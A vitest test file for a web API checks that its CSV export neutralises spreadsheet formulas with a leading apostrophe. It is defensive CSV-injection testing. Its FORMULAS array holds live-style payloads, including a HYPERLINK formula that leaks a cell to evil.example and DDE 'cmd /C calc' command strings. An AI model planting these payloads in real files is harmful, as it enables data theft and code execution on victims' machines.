import { describe, expect, it } from 'vitest';
import { call, tokenFor, users } from '../support/api';
import { createIssueDataset, FIXTURE_INSTANCE } from '../support/fixtures';

// Issue 8 §6 (OWASP CSV injection): formula cells in the fixes export are neutralised with a
// leading apostrophe; numbers stay numbers; the JSON export keeps the values as they are.
// Measured before: 0 of 4 formula cells neutralised.

const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

describe('CSV export neutralises formulas (issue 8 §6)', () => {
  it('prefixes every formula-like cell, keeps numbers, and leaves JSON untouched', async () => {
    const { datasetId, issues } = await createIssueDataset({
      issues: FORMULAS.length + 1,
      name: 'formulas',
      build: (i) => ({ current_value: i < FORMULAS.length ? FORMULAS[i]! : '-12.5', status: 'open' }),
    });
    const a = { token: await tokenFor(users.analyst), instanceId: FIXTURE_INSTANCE.instanceId };
    // Old values are the formulas; new values are formulas too (a user may type one), or a number.
    for (const [i, issue] of issues.entries()) {
      const value = i < FORMULAS.length ? FORMULAS[(i + 1) % FORMULAS.length]!.trim() || '=1' : '-7.25';
      const res = await call('POST', `/api/${datasetId}/resolve/${issue.issue_id}`, { ...a, body: { resolution: { [issue.issue_column]: value } } });
      expect(res.status, JSON.stringify(res.body)).toBe(200);
    }

    const csv = await call('GET', `/api/${datasetId}/export?format=csv`, a);
    expect(csv.status).toBe(200);
    const text = csv.body as string;
    // No field of the file starts with a formula character unless it is a plain number.
    const fields = text.split(/,|\r\n/).map((f) => (f.startsWith('"') ? f.slice(1) : f));
    const dangerous = fields.filter((f) => /^[=+\-@\t\r]/.test(f) && !/^[+-]?\d+(\.\d+)?$/.test(f));
    expect(dangerous).toEqual([]);
    for (const formula of FORMULAS) {
      const quotedOrNot = formula.replace(/"/g, '""');
      expect(text).toContain(`'${quotedOrNot}`);
    }
    expect(text).toMatch(/,-12\.5,-7\.25,/);

    const json = await call('GET', `/api/${datasetId}/export?format=json`, a);
    const oldValues = (json.body.data as Array<{ old_value: string }>).map((f) => f.old_value).sort();
    expect(oldValues).toEqual([...FORMULAS, '-12.5'].sort());
  });
});
